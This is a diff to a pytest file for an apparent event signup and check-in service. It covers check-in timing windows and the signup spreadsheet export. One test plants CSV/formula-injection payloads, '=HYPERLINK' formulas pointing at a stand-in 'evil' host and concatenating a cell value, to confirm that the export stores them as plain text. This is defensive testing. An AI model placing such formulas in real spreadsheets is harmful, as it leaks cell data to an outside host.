@@ -8,6 +8,7 @@ from datetime import datetime, timedelta, timezone
 
 import pytest
 import requests
+import time_machine
 from itsdangerous import URLSafeSerializer
 from openpyxl import load_workbook
 
@@ -35,12 +36,20 @@ def scan(client, officer: str, event_id: int, code: str):
     return client.post(f"/api/v1/officer/events/{event_id}/checkin", json={"code": code}, headers=bearer(officer))
 
 
+def starting_soon(client, officer: str, **overrides) -> int:
+    """An event that starts in an hour: check-in is open (from two hours before the start)."""
+    now = datetime.now(timezone.utc)
+    return create_event(client, officer, signup_closes_at=(now + timedelta(minutes=30)).isoformat(),
+                        starts_at=(now + timedelta(hours=1)).isoformat(), ends_at=(now + timedelta(hours=3)).isoformat(),
+                        **overrides)
+
+
 def counts(client, officer: str, event_id: int) -> dict:
     return client.get(f"/api/v1/officer/events/{event_id}", headers=bearer(officer)).json["counts"]
 
 
 def test_confirmed_signup_checks_in_once_and_a_second_scan_is_harmless(client, officer, make_staff, token_for):
-    event_id = create_event(client, officer)
+    event_id = starting_soon(client, officer)
     token = token_for(make_staff(name="张老师"))
     code = sign_up(client, event_id, token)["checkin_code"]
     first = scan(client, officer, event_id, code)
@@ -59,7 +68,7 @@ def test_two_officers_scanning_at_once_count_one_attendance(app, officer, make_s
     tokens = [officer, token_for(second_officer)] * 4
     server = LiveServer(app).start()
     try:
-        event_id = create_event(app.test_client(), officer)
+        event_id = starting_soon(app.test_client(), officer)
         code = sign_up(app.test_client(), event_id, token_for(make_staff()))["checkin_code"]
         with ThreadPoolExecutor(8) as pool:
             replies = list(pool.map(lambda t: requests.post(
@@ -71,7 +80,7 @@ def test_two_officers_scanning_at_once_count_one_attendance(app, officer, make_s
 
 
 def test_forged_or_foreign_codes_are_refused(app, client, officer, make_staff, token_for):
-    event_id, other_event = create_event(client, officer), create_event(client, officer, title="乒乓球赛")
+    event_id, other_event = starting_soon(client, officer), starting_soon(client, officer, title="乒乓球赛")
     code = sign_up(client, event_id, token_for(make_staff()))["checkin_code"]
     assert error_code(scan(client, officer, event_id, code[:-2] + "xx")) == "invalid_checkin_code"
     forged = URLSafeSerializer("not-our-secret", salt=checkin.SALT).dumps([event_id, 1, 1])
@@ -80,7 +89,7 @@ def test_forged_or_foreign_codes_are_refused(app, client, officer, make_staff, t
 
 
 def test_waitlisted_and_cancelled_signups_cannot_check_in(app, client, officer, make_staff, token_for):
-    event_id = create_event(client, officer, capacity=1)
+    event_id = starting_soon(client, officer, capacity=1)
     first, second = token_for(make_staff()), token_for(make_staff())
     code = sign_up(client, event_id, first)["checkin_code"]
     assert sign_up(client, event_id, second)["checkin_code"] is None
@@ -100,7 +109,7 @@ def test_waitlisted_and_cancelled_signups_cannot_check_in(app, client, officer, 
 
 
 def test_code_from_before_a_cancellation_is_refused_after_signing_up_again(client, officer, make_staff, token_for):
-    event_id = create_event(client, officer, capacity=5)
+    event_id = starting_soon(client, officer, capacity=5)
     token = token_for(make_staff())
     old_code = sign_up(client, event_id, token)["checkin_code"]
     client.post(f"/api/v1/events/{event_id}/cancel", headers=bearer(token))
@@ -113,7 +122,7 @@ def test_code_from_before_a_cancellation_is_refused_after_signing_up_again(clien
 def test_signup_list_and_xlsx_export_cell_by_cell(app, client, officer, make_staff, token_for, grant):
     questions = [{"key": "size", "label": "T恤尺码", "kind": "choice", "required": True, "options": ["M", "L"]},
                  {"key": "team", "label": "参赛队伍", "kind": "text"}]
-    event_id = create_event(client, officer, capacity=1, questions=questions, title="趣味运动会")
+    event_id = starting_soon(client, officer, capacity=1, questions=questions, title="趣味运动会")
     wang = token_for(make_staff(employee_no="00123", name="王芳", sub_union="外语分工会", department="外国语学院"))
     li = token_for(make_staff(employee_no="00456", name="李强", sub_union="数学分工会", department="数学学院"))
     make_staff(employee_no="00789", name="赵老师", sub_union="离退休分工会", status=StaffStatus.RETIRED)
@@ -153,11 +162,27 @@ def test_signup_list_and_xlsx_export_cell_by_cell(app, client, officer, make_sta
     assert str(sheet["B2"].value) == "00123"                                      # 工号 keeps its leading zeros
 
 
-def test_typed_answers_never_become_formulas_in_the_export(app, client, officer, make_staff, token_for):
-    questions = [{"key": "team", "label": "参赛队伍", "kind": "text"}]
+def test_typed_answers_and_labels_never_become_formulas_in_the_export(app, client, officer, make_staff, token_for):
+    label = '=HYPERLINK("http://evil/","尺码")'
+    questions = [{"key": "team", "label": "参赛队伍", "kind": "text"}, {"key": "size", "label": label, "kind": "text"}]
     event_id = create_event(client, officer, capacity=5, questions=questions, title="读书节")
     sign_up(client, event_id, token_for(make_staff()), {"team": '=HYPERLINK("http://evil/?"&B3,"点击")'})
     resp = client.get(f"/api/v1/officer/events/{event_id}/signups.xlsx", headers=bearer(officer))
-    cell = load_workbook(io.BytesIO(resp.data)).active.cell(row=2, column=len(questions) + 10)
-    assert cell.data_type == "s"
-    assert cell.value == '\'=HYPERLINK("http://evil/?"&B3,"点击")'
+    sheet = load_workbook(io.BytesIO(resp.data)).active
+    answer, header = sheet.cell(row=2, column=11), sheet.cell(row=1, column=12)
+    assert (answer.data_type, header.data_type) == ("s", "s")
+    assert answer.value == '=HYPERLINK("http://evil/?"&B3,"点击")'       # exactly the text typed, as text
+    assert header.value == label
+
+
+def test_check_in_is_open_only_around_the_event(client, officer, make_staff, token_for):
+    event_id = create_event(client, officer)                      # starts in two days
+    code = sign_up(client, event_id, token_for(make_staff()))["checkin_code"]
+    early = scan(client, officer, event_id, code)
+    assert (early.status_code, error_code(early)) == (409, "checkin_not_open")
+    starts = datetime.fromisoformat(client.get(f"/api/v1/officer/events/{event_id}",
+                                               headers=bearer(officer)).json["starts_at"])
+    with time_machine.travel(starts + timedelta(days=1)):        # the next day: too late
+        assert error_code(scan(client, officer, event_id, code)) == "checkin_not_open"
+    with time_machine.travel(starts - timedelta(minutes=30)):
+        assert scan(client, officer, event_id, code).json["first_time"] is True
